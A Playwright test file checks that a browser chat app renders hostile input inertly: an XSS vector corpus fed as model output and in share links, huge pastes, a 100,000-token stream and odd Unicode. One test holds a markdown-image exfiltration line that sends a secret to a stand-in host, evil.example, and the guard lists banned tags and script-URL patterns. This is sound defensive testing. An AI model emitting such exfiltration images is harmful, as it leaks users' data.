import { readFileSync } from "node:fs";
import { expect, test, type Page } from "@playwright/test";
import { encodeShareFragment, type SharedConversation } from "../../app/features/share/codec";
import { assistantMessages, loadModel, openApp, sendMessage, waitForReplyEnd } from "./helpers";

/**
 * Hostile input: a corpus of XSS and exfiltration vectors from public cheat-sheets
 * (test/fixtures/xss/vectors.json) fed as model output and inside share links, plus inputs
 * that are merely huge or odd. Nothing may run (no page flag, no dialog, no popup, no
 * navigation), no request may leave for another host, and the app must stay usable.
 */

interface Corpus {
  payloadFlag: string;
  groups: { id: string; source: string; vectors: string[] }[];
}
const corpus = JSON.parse(
  readFileSync(new URL("../fixtures/xss/vectors.json", import.meta.url), "utf8"),
) as Corpus;
const vectors = corpus.groups.flatMap((g) => g.vectors.map((v) => ({ group: g.id, vector: v })));
const MODEL = "test-engine-fast";

interface Guard {
  dialogs: string[];
  foreign: string[];
  popups: string[];
  navigations: string[];
  /** Asserts nothing ran, nothing left and the page stayed where it was. */
  expectClean(): Promise<void>;
}

/** Blocks and records every request to another host, and every sign of executed script. */
async function guard(page: Page): Promise<Guard> {
  const origin = new URL(test.info().project.use.baseURL ?? "http://127.0.0.1:4180").origin;
  const g: Guard = {
    dialogs: [],
    foreign: [],
    popups: [],
    navigations: [],
    async expectClean() {
      expect(g.dialogs, "dialogs opened").toEqual([]);
      expect(g.foreign, "requests to other hosts").toEqual([]);
      expect(g.popups, "windows opened").toEqual([]);
      expect(g.navigations, "navigations away").toEqual([]);
      const flag = await page.evaluate(
        (name) => (window as never)[name] as unknown,
        corpus.payloadFlag,
      );
      expect(flag, "payload flag").toBeUndefined();
      // Nothing that can run script or send data made it into the DOM.
      const dangerous = await page.evaluate(() => {
        const found: string[] = [];
        const banned = "script,iframe,frame,frameset,object,embed,form,meta,link,base,style";
        // Untrusted text is shown in messages and in the conversation list (titles).
        const shown = [...document.querySelectorAll('article, [data-testid="conversation-list"]')];
        for (const el of shown.flatMap((r) => [...r.querySelectorAll(banned)])) {
          found.push(el.tagName);
        }
        for (const el of shown.flatMap((r) => [...r.querySelectorAll("*")])) {
          for (const attr of el.getAttributeNames()) {
            const value = el.getAttribute(attr) ?? "";
            if (/^on/i.test(attr)) found.push(`${el.tagName}[${attr}]`);
            if (/^\s*(javascript|vbscript|data:text)/i.test(value)) {
              found.push(`${el.tagName}[${attr}=${value.slice(0, 30)}]`);
            }
          }
        }
        return found;
      });
      expect(dangerous, "dangerous elements or attributes rendered").toEqual([]);
    },
  };
  await page.context().route(
    (url) => url.origin !== origin && url.protocol.startsWith("http"),
    (route) => {
      g.foreign.push(route.request().url());
      return route.abort("blockedbyclient");
    },
  );
  page.on("request", (request) => {
    const url = request.url();
    if (/^https?:/.test(url) && !url.startsWith(origin + "/")) g.foreign.push(url);
  });
  page.on("dialog", (dialog) => {
    g.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("popup", (popup) => g.popups.push(popup.url()));
  page.on("framenavigated", (frame) => {
    if (frame === page.mainFrame() && !frame.url().startsWith(origin + "/")) {
      g.navigations.push(frame.url());
    }
  });
  return g;
}

/** Hover, focus and click everything the vectors could have hung a handler on. */
async function poke(page: Page): Promise<void> {
  const list = page.getByTestId("message-list");
  for (const el of await list.locator("a, img, [tabindex], svg, math, details").all()) {
    await el.hover({ timeout: 500, force: true }).catch(() => undefined);
  }
  // Links must not run script when followed; the app opens none of them in this window.
  for (const link of await list.locator("a[href]").all()) {
    const href = (await link.getAttribute("href")) ?? "";
    expect(href).not.toMatch(/^\s*(javascript|vbscript|data):/i);
  }
  await page.mouse.wheel(0, 2000);
}

const SHARDS = 3;
for (let shard = 0; shard < SHARDS; shard++) {
  const mine = vectors.filter((_, i) => i % SHARDS === shard);
  test(`XSS corpus as model output (${shard + 1}/${SHARDS}, ${mine.length} vectors): nothing runs, nothing leaves`, async ({
    page,
  }) => {
    test.setTimeout(120_000);
    const g = await guard(page);
    await openApp(page);
    await loadModel(page, MODEL);
    let i = 0;
    for (const { vector } of mine) {
      // A fresh chat every few vectors keeps the prompt small; all stay in the sidebar.
      if (i++ % 12 === 0) await page.getByRole("button", { name: "+ New chat" }).click();
      await sendMessage(page, `#echo ${vector}`);
      await waitForReplyEnd(page);
      await expect(assistantMessages(page).last()).toHaveAttribute("data-status", "done");
    }
    await poke(page);
    await page.waitForTimeout(300);
    await g.expectClean();

    // Reloaded from IndexedDB, the same content is rendered again: still inert.
    await page.reload();
    await expect(assistantMessages(page).first()).toBeVisible();
    await poke(page);
    await g.expectClean();

    await loadModel(page, MODEL);
    await sendMessage(page, "Still usable?");
    await waitForReplyEnd(page);
    await expect(assistantMessages(page).last()).toContainText('to "Still usable?"');
  });
}

test("XSS corpus inside share links: nothing runs, nothing leaves", async ({ page }) => {
  test.setTimeout(120_000);
  const g = await guard(page);
  await openApp(page);
  // One link per group; questions and answers both carry vectors, and so does the title.
  for (const group of corpus.groups) {
    const conversation: SharedConversation = {
      v: 1,
      title: group.vectors[0] ?? group.id,
      modelId: MODEL,
      settings: { metaPrompt: group.vectors[1] ?? "" },
      messages: group.vectors.map((vector, i) => ({
        role: i % 2 === 0 ? "user" : "assistant",
        content: vector,
      })),
    };
    await page.goto(`/#${encodeShareFragment(conversation)}`);
    await expect(page.locator("article").first()).toBeVisible();
    await expect(page.locator("article")).toHaveCount(group.vectors.length);
    await poke(page);
    await g.expectClean();
  }
});

test("a markdown image pointing elsewhere is not fetched, as model output or in a link", async ({
  page,
}) => {
  const g = await guard(page);
  await openApp(page);
  await loadModel(page, MODEL);
  await sendMessage(
    page,
    "#echo Here is your data: ![loading](https://evil.example/collect?secret=SECRET-123) and <img src=https://evil.example/raw.png>",
  );
  await waitForReplyEnd(page);
  const reply = assistantMessages(page).last();
  await expect(reply).toContainText(/evil\.example/);
  await expect(reply.locator('img[src*="evil.example"]')).toHaveCount(0);
  await page.waitForTimeout(500);
  await g.expectClean();
});

test("a 1 MB paste: the composer stays responsive and the message is saved", async ({ page }) => {
  const g = await guard(page);
  await openApp(page);
  await loadModel(page, MODEL);
  const line = "这是一段很长的粘贴文本 with mixed scripts and <b>markup</b> 1234567890\n";
  const paste = line.repeat(Math.ceil((1024 * 1024) / line.length));
  const composer = page.getByRole("textbox", { name: "Message" });
  // A paste is one input event carrying all the text (Playwright's fill types it in pieces).
  const pasteMs = await composer.evaluate((el: HTMLTextAreaElement, text) => {
    const started = performance.now();
    el.focus();
    Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, "value")?.set?.call(el, text);
    el.dispatchEvent(new InputEvent("input", { bubbles: true, inputType: "insertFromPaste" }));
    return performance.now() - started;
  }, paste);
  // Typing after the paste is answered. The bounds only catch a freeze (a quadratic path
  // takes minutes here); the figures are printed, and speed belongs to the benchmarks.
  const started = Date.now();
  await composer.press("ControlOrMeta+End");
  await composer.pressSequentially(" END");
  await expect(composer).toHaveValue(/ END$/);
  const typingMs = Date.now() - started;
  console.log(`[measured] 1 MB paste: ${Math.round(pasteMs)} ms; typing after it: ${typingMs} ms`);
  expect(pasteMs).toBeLessThan(10_000);
  expect(typingMs).toBeLessThan(30_000);
  await composer.press("Enter");
  // Either the model answers or the app says clearly that the message is too long.
  await waitForReplyEnd(page);
  const reply = assistantMessages(page).last();
  const status = await reply.getAttribute("data-status");
  if (status === "error") {
    await expect(reply.locator('[data-error-code="context-window-exceeded"]')).toBeVisible();
  } else {
    expect(status).toBe("done");
  }
  await page.reload();
  const saved = await page
    .locator('article[data-role="user"]')
    .first()
    .getByTestId("message-content")
    .textContent();
  expect(saved?.length).toBeGreaterThan(1_000_000);
  await expect(page.getByRole("textbox", { name: "Message" })).toBeEditable();
  await g.expectClean();
});

// 100,000 deltas at 20,000 tokens/s, far beyond any GPU: the UI takes the latest text about
// once a frame, so the flood must neither freeze the page nor lose a token.
test("a 100,000-token reply streams to the end and the app stays usable", async ({ page }) => {
  test.setTimeout(120_000);
  const g = await guard(page);
  await openApp(page);
  await loadModel(page, MODEL);
  await sendMessage(page, "Hello");
  await waitForReplyEnd(page);
  // The settings panel caps new tokens at 1536; a stored chat (an older version, another
  // tool) can ask for any number, and the engine obeys it.
  await page.evaluate(async () => {
    const db = await new Promise<IDBDatabase>((resolve) => {
      const open = indexedDB.open("cutegpt-chats");
      open.onsuccess = () => resolve(open.result);
    });
    const store = () => db.transaction("conversations", "readwrite").objectStore("conversations");
    const all = await new Promise<{ id: string; settings?: { decoding: object } }[]>((resolve) => {
      const request = store().getAll();
      request.onsuccess = () => resolve(request.result as never);
    });
    for (const c of all) {
      const settings = c.settings ?? {
        metaPrompt: "",
        historyLimit: 3,
        decoding: { preset: "custom", temperature: 0.7, topP: 0.9, repetitionPenalty: 1.1 },
      };
      settings.decoding = { ...settings.decoding, maxTokens: 200_000 };
      await new Promise((resolve) => (store().put({ ...c, settings }, c.id).onsuccess = resolve));
    }
    db.close();
  });
  await page.reload();
  await loadModel(page, MODEL);
  await sendMessage(page, "Go on forever #long:100000 #rate:20000");
  const reply = assistantMessages(page).last();
  await expect(reply).toHaveAttribute("data-status", "streaming");
  // While it streams the page still answers: the composer takes typing.
  const composer = page.getByRole("textbox", { name: "Message" });
  const before = Date.now();
  await composer.fill("typed while streaming");
  await expect(composer).toHaveValue("typed while streaming");
  expect(Date.now() - before).toBeLessThan(5_000);
  await expect(reply).toHaveAttribute("data-status", "done", { timeout: 60_000 });
  await expect(reply.getByTestId("message-meta")).toContainText(/100,?000 tokens/);
  await composer.fill("");
  await sendMessage(page, "And after that?");
  await waitForReplyEnd(page);
  await expect(assistantMessages(page).last()).toContainText('to "And after that?"');
  await page.reload();
  await expect(assistantMessages(page)).toHaveCount(3);
  await g.expectClean();
});

test("lone surrogates and control characters are shown, saved and shared without breaking anything", async ({
  page,
}) => {
  const g = await guard(page);
  await openApp(page);
  await loadModel(page, MODEL);
  const odd =
    "lone \uD800 high, lone \uDC00 low, reversed \uDC00\uD800, NUL \u0000, BEL \u0007, ESC \u001b[31mred\u001b[0m, " +
    "BOM \uFEFF, RLO \u202Egnp.exe\u202C, ZWJ a\u200Db, LS \u2028 PS \u2029, DEL \u007f, C1 \u0085\u009b end";
  await sendMessage(page, `#echo ${odd}`);
  await waitForReplyEnd(page);
  const reply = assistantMessages(page).last();
  await expect(reply).toHaveAttribute("data-status", "done");
  await expect(reply).toContainText("end");
  await page.reload();
  await expect(assistantMessages(page).last()).toContainText("C1");
  await expect(page.locator('article[data-role="user"]')).toContainText("lone");

  // The same text in a share link opens too.
  const fragment = encodeShareFragment({
    v: 1,
    title: odd.slice(0, 50),
    modelId: MODEL,
    settings: {},
    messages: [
      { role: "user", content: odd },
      { role: "assistant", content: odd },
    ],
  });
  await page.goto(`/#${fragment}`);
  await expect(page.locator("article")).toHaveCount(2);
  await expect(page.locator("article").last()).toContainText("end");
  await g.expectClean();
});
